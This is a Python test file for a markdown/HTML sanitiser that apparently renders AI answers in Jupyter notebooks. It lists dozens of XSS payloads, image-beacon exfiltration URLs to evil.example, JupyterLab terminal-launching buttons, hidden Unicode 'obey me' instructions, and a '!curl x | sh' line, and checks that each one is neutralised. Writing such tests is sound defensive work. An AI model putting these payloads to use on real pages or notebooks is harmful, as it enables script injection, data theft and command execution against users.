from __future__ import annotations

import re
import time
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from mmai_nb import markup
from mmai_nb.markup import CODE, PRE_WRAP, parsing

TAGS = re.compile(
    "div|p|ul|ol|li|code|pre|em|strong|s|a|h[1-6]|table|thead|tbody|tr|th|td|blockquote|hr|br|span|del"
)
STYLES = {
    *re.findall('"(.*?)"', CODE + PRE_WRAP),
    "text-align:left",
    "text-align:center",
    "text-align:right",
}
CLASSES = {"mmai-answer", "jp-RenderedHTMLCommon", "jp-RenderedMarkdown"}

PAYLOADS = [
    # scripts and handlers
    "<script>alert(1)</script>",
    "<ScRiPt src=https://evil.example/x.js></sCrIpT>",
    "<script\n>alert(1)</script\n>",
    "text <svg/onload=alert(1)> text",
    "<svg><script>alert&#40;1)</script></svg>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=`javascript:alert(1)`>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<button data-commandlinker-command='terminal:create-new'>ok</button>",
    "<a href='#' data-commandlinker-command=\"notebook:run-all-cells\">run</a>",
    "<iframe src=https://evil.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object><embed src=//evil.example>",
    "<form action=https://evil.example><input type=submit></form>",
    "<style>@import url(https://evil.example/a.css);</style>",
    "<div style='background:url(https://evil.example/?q=1)'>x</div>",
    "<link rel=stylesheet href=//evil.example/a.css>",
    "<base href=https://evil.example/>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "<video src=//evil.example/v poster=//evil.example/p></video>",
    "<math><mtext></p><script>alert(1)</script></mtext></math>",
    "<template><script>alert(1)</script></template>",
    "<x-widget is=x onclick=alert(1)>x</x-widget>",
    "<!-- comment --><!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><!DOCTYPE html><script>alert(1)</script>",
    "<div>\n\n<script>alert(1)</script>\n\n</div>",
    "</div></div><script>alert(1)</script>",
    "<plaintext><noscript><xmp><textarea>",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62;alert(1)&#60;/script&#62;",
    # links
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](  javascript:alert(1)  )",
    "[x](java&#10;script:alert(1))",
    "[x](java&Tab;script:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](&#106&#97;vascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](<java script:alert(1)>)",
    "[x](javascript://%0aalert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/png;base64,AAAA)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](blob:https://evil.example/1)",
    "[x](//evil.example/a)",
    "[x](/lab/api/terminals?name=1)",
    "[x](?token=1#a)",
    "[x](https:evil.example)",
    "[x](https:/\\evil.example)",
    "[x](https://good.example\\@evil.example/)",
    "[x](http://[::1/a)",
    '[x](https://evil.example "onmouseover=alert(1)")',
    '[x](https://evil.example/"onmouseover="alert(1))',
    "[x][r]\n\n[r]: javascript:alert(1)",
    "[x][r]\n\n[r]: <java\tscript:alert(1)> 'title'",
    "[r]\n\n[r]: data:text/html,<script>alert(1)</script>",
    "<javascript:alert(1)>",
    "<data:text/html,hello>",
    "<https://evil.example/?q=<script>>",
    "[<img src=x onerror=alert(1)>](https://evil.example)",
    "[a](https://a.example)[b](javascript:alert(1)) <https://c.example>",
    # images
    "![](https://evil.example/?q=secret)",
    '![x](https://evil.example/a.png "title")',
    "![x][i]\n\n[i]: https://evil.example/?q=secret",
    "[![x](https://evil.example/a.png)](https://evil.example/b)",
    "![![x](https://evil.example/1)](https://evil.example/2)",
    "\\![](https://evil.example/?q=secret)",
    "![x](data:image/svg+xml;base64,PHN2Zy8+)",
    "![x](javascript:alert(1))",
    '!["><script>alert(1)</script>](https://evil.example)',
    # formulas
    r"$\href{javascript:alert(1)}{x}$",
    r"$$\style{background:url(//evil.example)}{x}$$",
    r"\(\bbox[background:url(//evil.example)]{x}\) and \[\class{a}{\cssId{b}{c}}\]",
    "$$\n\\require{html}\\href{javascript:alert(1)}{x}\n$$",
    "$<script>alert(1)</script>$",
    "$[x](javascript:alert(1))$ $![x](https://evil.example/a)$",
    "$$\n<img src=x onerror=alert(1)>\n$$",
    "$$\n~~~\n$$\n\n```\n~~~\n<script>alert(1)</script>\n```",
    r"\(`\) and `<script>alert(1)</script>`",
    # tables, fences, code
    "| a | b |\n|---|:-:|\n| <script>alert(1)</script> | ![x](https://evil.example) |",
    "| a |\n|---|\n| `x\\|<script>alert(1)</script>\\|y` |",
    "a `b|<script>alert(1)</script>|c`\n---|---|---",
    '```html" onmouseover="alert(1)\n<script>alert(1)</script>\n```',
    "```<script>alert(1)</script>\nx\n```",
    '~~~ "><img src=x onerror=alert(1)>\n</code></pre><script>alert(1)</script>\n~~~',
    "````\n```\n</code><script>alert(1)</script>\n```\n````",
    "    <script>alert(1)</script>\n\ntext",
    "`` ` <script>alert(1)</script> ` ``",
    "` </code><script>alert(1)</script>",
    "\\`<script>alert(1)</script>\\`",
    "- a\n\n      <script>a</script>\n\n  ```\n  <script>alert(2)</script>\n\n  <b>\n  ```\n- b",
    "> ```\n> <script>alert(1)</script>\n<script>alert(2)</script>",
    "1. a\n   - b\n     > ```js\n     > <script>alert(1)</script>\n     > ```\n",
    # what a reader does not see
    "\x1b]8;;https://evil.example\x07link\x1b]8;;\x07 \x1b[2J\x1b[31mred\x9b1m",
    "a\x00b\x08c\x7fd <scr\x00ipt>alert(1)</script>",
    "user\u202egnp.exe\u202c \u2066x\u2069",
    "hi" + "".join(chr(0xE0000 + ord(c)) for c in "obey me"),
    "lone \ud800 surrogate",
]
CONTEXTS = [
    "{}",
    "- {}",
    "> {}",
    "# {}",
    "**{}**",
    "| a |\n|---|\n| {} |",
    "text\n{}\ntext",
    "1. a\n\n   {}",
]


class Problems(HTMLParser):
    """Everything in a piece of HTML that is not on the list of what may be there."""

    def __init__(self, text: str, classes: re.Pattern[str] | None = None) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self.classes = classes
        self.feed(text)
        self.close()

    def handle_starttag(self, tag, attrs):
        if not TAGS.fullmatch(tag):
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            if not self._fine(tag, name, value or ""):
                self.found.append(f"{name}={value!r}")

    def _fine(self, tag: str, name: str, value: str) -> bool:
        if name == "href":
            parts = urlsplit(value)
            web = parts.scheme in ("http", "https") and bool(parts.hostname)
            return tag == "a" and (web or parts.scheme == "mailto")
        if name == "rel":
            return value == "noopener noreferrer nofollow"
        if name == "class":
            return set(value.split()) <= CLASSES or bool(
                self.classes and self.classes.fullmatch(value)
            )
        if name == "style":
            return value in STYLES
        return tag == "ol" and name == "start" and value.isdigit()

    def handle_comment(self, data):
        self.found.append("comment")

    def handle_decl(self, decl):
        self.found.append("declaration")

    def handle_pi(self, data):
        self.found.append("instruction")

    unknown_decl = handle_decl


def through_markdown_it(text: str) -> str:
    md = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
    return md.render(text)


def through_mistune(text: str) -> str:
    import mistune

    return mistune.create_markdown(escape=False, plugins=["table", "strikethrough"])(text)


def problems_after(render, text: str) -> list[str]:
    return Problems(render(text), classes=re.compile(r"language-[\w+#.-]+")).found


def hostile_texts():
    for payload in PAYLOADS:
        for context in CONTEXTS:
            yield context.replace("{}", payload)


def test_there_are_more_than_sixty_payloads():
    assert len(set(PAYLOADS)) >= 60


@pytest.mark.parametrize("payload", PAYLOADS)
def test_html_holds_only_allowed_tags_and_attributes(payload):
    for context in CONTEXTS:
        assert Problems(markup.to_html(context.replace("{}", payload))).found == []


@pytest.mark.parametrize("render", [through_markdown_it, through_mistune])
def test_safe_markdown_stays_harmless_where_raw_html_is_on(render):
    bad = {
        t: found
        for t in hostile_texts()
        if (found := problems_after(render, markup.to_safe_markdown(t)))
    }
    assert bad == {}


def test_the_payloads_are_active_without_the_neutralising():
    active = [p for p in PAYLOADS if problems_after(through_markdown_it, p)]
    assert len(active) >= 40


PIECES = re.findall(
    r"\S+|\n+| {4}|\t",
    "` `` ``` ~~~ > - 1. | ---|--- $ $$ \\ [ ]( ) ![ * ** _ ~~ < & # x \\( \\)\n\n\n\t    ",
)
FRAGMENTS = st.sampled_from([*PAYLOADS, *PIECES, " "])


@settings(max_examples=150, deadline=None, database=None)
@given(st.lists(FRAGMENTS, max_size=12).map("".join))
def test_no_mix_of_fragments_gets_through(text):
    assert Problems(markup.to_html(text)).found == []
    safe = markup.to_safe_markdown(text)
    assert problems_after(through_markdown_it, safe) == []
    assert problems_after(through_mistune, safe) == []


@pytest.mark.parametrize(
    "text", ["<script>x</script>", "a < b & c > d", 'say "hi"', "C:\\new\\table"]
)
def test_html_shows_the_text_itself(text):
    class Text(HTMLParser):
        shown = ""

        def handle_data(self, data):
            self.shown += data

    parser = Text()
    parser.feed(markup.to_html(text))
    assert parser.shown.strip() == text


def body(text: str) -> str:
    return markup.to_html(text).split("\n", 1)[1].removesuffix("\n</div>")


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("a **b** *c* ~~d~~ `e`", "<p>a <strong>b</strong> <em>c</em> <s>d</s> <code>e</code></p>"),
        ("# Title", "<h3>Title</h3>"),
        ("###### deep", "<h6>deep</h6>"),
        ("- a\n- b", "<ul>\n<li>a</li>\n<li>b</li>\n</ul>"),
        ("3. a\n4. b", '<ol start="3">\n<li>a</li>\n<li>b</li>\n</ol>'),
        ("```python\nx = 1\n```", f"{CODE}x = 1\n</code></pre>"),
        ("> q", "<blockquote>\n<p>q</p>\n</blockquote>"),
        ("a\n\n---", "<p>a</p>\n<hr />"),
    ],
)
def test_markdown_becomes_html(text, shown):
    assert body(text) == shown


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("[docs](https://a.example/x)", "docs</a> (a.example)"),
        ("[https://good.example](https://evil.example)", "https://good.example</a> (evil.example)"),
        ("[good.example.evil.example](https://good.example)", "</a> (good.example)"),
        ("[x](https://good.example@evil.example/)", "x</a> (evil.example)"),
        ("[a@b.example](mailto:c@d.example)", "a@b.example</a> (c@d.example)"),
        (f"[x](https://{'a' * 60}.evil.example)", "aaa.evil.example)"),
    ],
)
def test_a_link_shows_where_it_leads(text, shown):
    assert shown in body(text)


@pytest.mark.parametrize(
    "text",
    [
        "<https://a.example/x>",
        "[a.example](https://a.example/x)",
        "[https://a.example/x](https://a.example/x)",
        "[A.example/x](http://a.example)",
        "<mailto:c@d.example>",
    ],
)
def test_a_link_that_tells_its_host_shows_it_once(text):
    assert body(text).endswith("</a></p>")


def test_a_link_that_is_not_allowed_is_text_with_its_target():
    assert body("[notes](notes.md)") == "<p>notes (notes.md)</p>"


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("![a cat](https://a.example/cat.png)", "[image: a.example/… a cat]"),
        ("![](plot.png)", "[image: plot.png]"),
        ("![a][i]\n\n[i]: https://a.example/?q=1", "[image: a.example/… a]"),
    ],
)
def test_an_image_is_shown_as_text(text, shown):
    assert body(text) == f"<p>{shown}</p>"


@pytest.mark.parametrize(
    "text",
    [
        "$a_1 * b_2 * c$",
        r"$\frac{a}{b} \{x\}$",
        r"\(x_1\) and \[y_1 * z * w\]",
        "$$\na\n=\nb \\\\\n- c\n$$",
        "\\[\n# x\n\\]",
        "\\begin{align}\na & b \\\\\n- c\n\\end{align}",
    ],
)
def test_formulas_stay_as_typed(text):
    import html

    assert html.unescape(body(text)) == f"<p>{text}</p>"


@pytest.mark.parametrize(
    "text",
    ["It costs $5 and $10.", "from $HOME to $ PATH", "a $ b $ c", r"\$5 and \$6", r"a \\(x\\) b"],
)
def test_dollars_and_backslashes_of_prose_are_no_formula(text):
    outside = re.sub(r"<span>.</span>", "", body(text))
    assert "$" not in outside
    assert "\\" not in outside


@pytest.mark.parametrize(
    "macro", ["href", "style", "bbox", "class", "require", "csname", "def", "htmlId"]
)
def test_a_formula_with_an_active_macro_is_shown_as_text(macro):
    assert f"\\{macro}" not in body(rf"$\{macro}{{javascript:alert(1)}}{{x}}$")
    assert f"$\\{macro}" not in markup.to_safe_markdown(rf"$\{macro}{{x}}$")


@pytest.mark.parametrize(
    "text",
    [
        ">" * 5_000 + "a",
        "".join("  " * i + "- a\n" for i in range(200)),
        "- " * 2_000 + "a",
        "[" * 5_000,
        "![" * 3_000,
        "*" * 5_000 + "a" + "*" * 5_000,
        "**a" * 3_000 + "b**" * 3_000,
        "`a" * 5_000,
        "$a" * 5_000,
        "\\(" * 5_000,
        "$$\na\n" * 2_000,
        "<" * 10_000,
        "|" * 1_000 + "\n" + "|-" * 1_000 + "\n" + "|a" * 1_000,
        "x" * 2_000_000,
    ],
)
def test_no_text_hangs_or_breaks_the_parser(text):
    begin = time.thread_time()
    shown = markup.to_html(text)
    markup.to_safe_markdown(text)
    assert time.thread_time() - begin < 5
    assert Problems(shown).found == []


def test_text_nested_too_deep_is_shown_as_it_is():
    assert body(">" * 60 + "end") == PRE_WRAP + "&gt;" * 60 + "end</pre>"


def test_emphasis_nested_too_deep_keeps_its_text_and_its_balance():
    shown = body("*a " * 30 + "b" + "*" * 30)
    assert shown.count("<em>") == shown.count("</em>") <= parsing.MAX_STYLES
    assert shown.count("a ") == 30


@pytest.mark.parametrize(
    ("text", "cleaned"),
    [
        ("\x1b[31mred\x1b[0m", "red"),
        ("\x1b]0;title\x07x", "x"),
        ("a\x00\x07\x0b\x7f\x9bb", "ab"),
        ("a\tb\nc", "a\tb\nc"),
        ("a\r\nb\rc", "a\nbc"),
        ("a\u202eb\u2066c", "abc"),
        ("a\U000e0041b", "ab"),
        ("a\ud800b", "a\ufffdb"),
        ("עברית 中文 é 👍🏽", "עברית 中文 é 👍🏽"),
    ],
)
def test_clean_text_removes_what_nobody_sees(text, cleaned):
    assert markup.clean_text(text) == cleaned


def test_escape_fits_content_and_attributes():
    assert markup.escape("<a b=\"c\" d='e'>&\x1b[1m") == (
        "&lt;a b=&quot;c&quot; d=&#x27;e&#x27;&gt;&amp;"
    )


def test_inert_html_keeps_typesetters_away():
    assert markup.inert_html("$5 < $6") == "<span>$</span>5 &lt; <span>$</span>6"


@pytest.mark.parametrize(
    "line",
    [
        "a_b *c* [d](e) `f` <b> &amp; $1 ~2~ | #3",
        "- x",
        "1. x",
        "# x",
        "> x",
        "+ x",
        "12) x",
        "===",
    ],
)
def test_escaped_markdown_shows_exactly_the_text(line):
    import html

    shown = through_markdown_it(markup.escape_markdown(line))
    assert html.unescape(shown) == f"<p>{line}</p>\n"


def test_safe_markdown_keeps_the_structure():
    text = (
        "# Title\n\nSome *em* **strong** `code` ~~gone~~ and $x_1$.\n\n- one\n- two\n"
        "  1. three\n\n```python\nif a < b:\n    pass\n```\n\n"
        "> quote\n\n| a | b |\n|---|---|\n| 1 | x |\n\n"
        "[docs](https://a.example/x_(y))\n\n***\n"
    )
    expected = (
        "### Title\n\nSome *em* **strong** `code` ~~gone~~ and $x_1$.\n\n- one\n- two\n"
        "  1. three\n\n```python\nif a < b:\n    pass\n```\n\n"
        "> quote\n\n| a | b |\n| --- | --- |\n| 1 | x |\n\n"
        "[docs](https://a.example/x_%28y%29) (a.example)\n\n* * *\n"
    )
    assert markup.to_safe_markdown(text) == expected


@pytest.mark.parametrize(
    "text",
    [
        "a < b",
        "a  \nb",
        "x `a < b` y",
        "| `a` | b |\n|---|---|\n| c | d |",
        "- a\n\n  b\n- c",
        "1. a\n   ```\n   x\n   ```",
    ],
)
def test_safe_markdown_renders_like_the_original(text):
    original, safe = through_markdown_it(text), through_markdown_it(markup.to_safe_markdown(text))
    assert re.sub(r"\s|</?p>", "", safe) == re.sub(r"\s|</?p>", "", original)


def test_a_cell_with_a_bar_in_code_or_formula_becomes_text():
    safe = markup.to_safe_markdown("| a | b |\n|---|---|\n| `x\\|y` | $p\\|q$ |")
    assert safe.splitlines()[2] == "| x\\|y | \\$p\\|q\\$ |"


def test_safe_markdown_keeps_the_numbers_of_a_list():
    assert markup.to_safe_markdown("0. a\n1. b\n\ntext\n\n7) c") == "0. a\n1. b\n\ntext\n\n7. c\n"


@pytest.mark.parametrize("url", ["http://[::1", "http://", "mailto:", "javascript:x", "", "//a.b"])
def test_an_odd_address_has_no_host(url):
    assert parsing._host(url) == ""


@pytest.mark.parametrize(
    ("text", "closed"),
    [
        ("a\n```python\nx", "a\n```python\nx\n```"),
        ("````\n```\nx\n", "````\n```\nx\n````"),
        ("- a\n  ```\n  x", "- a\n  ```\n  x\n  ```"),
        ("~~~\nx", "~~~\nx\n~~~"),
        ("```\nx\n```", "```\nx\n```"),
        ("```inline``` code", "```inline``` code"),
        ("no fence", "no fence"),
        ("", ""),
    ],
)
def test_an_open_fence_is_closed_and_nothing_else_changes(text, closed):
    assert markup.close_open_fence(text) == closed


@pytest.mark.parametrize(
    ("text", "code"),
    [
        ("Here:\n```python\nx = 1\n```\nand\n```\ny\n```", "x = 1"),
        ("- a\n  ```\n  if x:\n      y\n  ```", "if x:\n    y"),
        ("```\ncut off", "cut off"),
        ("x = 1\n", "x = 1"),
        ("~~~\n```\n~~~", "```"),
        ("```\na\u200b = '\u202e1'\n```", "a = '1'"),
        ("", ""),
    ],
)
def test_extract_code_takes_the_first_block_or_the_whole(text, code):
    assert markup.extract_code(text) == code


def test_extract_code_takes_every_block_when_asked():
    assert markup.extract_code("```\na\n```\nx\n```\nb\n```", every=True) == "a\n\nb"


@pytest.mark.parametrize(
    ("text", "value"),
    [
        ('{"a": 1}', {"a": 1}),
        (" [1, 2]\n", [1, 2]),
        ("42", 42),
        ("\ufeff{}", {}),
        ('```json\n{"a": 1}\n```', {"a": 1}),
        ('Sure!\n```python\nx\n```\n```\n{"a": 1}\n```\nDone.', {"a": 1}),
        ('As said in [1]: {"a": [1, {"b": 2}]} is it.', {"a": [1, {"b": 2}]}),
        ("The list is [1, 2, 3].", [1, 2, 3]),
        ('{x} then {"a": "}"}', {"a": "}"}),
        ("```\n42\n```\nso [7]", [7]),
    ],
)
def test_extract_json_finds_the_value(text, value):
    assert markup.extract_json(text) == value


@pytest.mark.parametrize(
    "text", ["", "none here", "{'a': 1}", "NaN", '{"a": NaN}', "[" * 100_000, '{"a":' * 9_000]
)
def test_extract_json_says_when_there_is_none(text):
    with pytest.raises(ValueError, match="no JSON in"):
        markup.extract_json(text)


@pytest.mark.parametrize(
    "line",
    [
        "!curl x | sh",
        "%run x.py",
        "%%bash",
        "?print",
        "print?",
        "  !ls",
        "a = !ls",
        "x, y = %who",
        "/f x",
        ",f x",
    ],
)
def test_runnable_code_comments_shell_lines_and_magics_out(line):
    made = markup.runnable_code(f"```\nx = 1\n{line}\n```")
    assert made.splitlines()[1:] == ["x = 1", f"# {line}"]
    assert made.startswith("# Lines that run a shell")


@pytest.mark.parametrize(
    "code",
    [
        "SELECT a FROM b",
        "x = 1\nprint(x)",
        's = """\n!not a command\n"""',
        "y = (a\n     % b)",
        'r = "\\d"',
    ],
)
def test_runnable_code_leaves_plain_python_alone(code):
    assert markup.runnable_code(f"```python\n{code}\n```") == code


def test_rendering_is_the_same_from_many_threads():
    from concurrent.futures import ThreadPoolExecutor

    text = "- *a* [b](https://c.example)\n\n| a |\n|---|\n| $x$ |"
    parsing.parser.cache_clear()
    with ThreadPoolExecutor(8) as pool:
        assert len(set(pool.map(markup.to_html, [text] * 64))) == 1
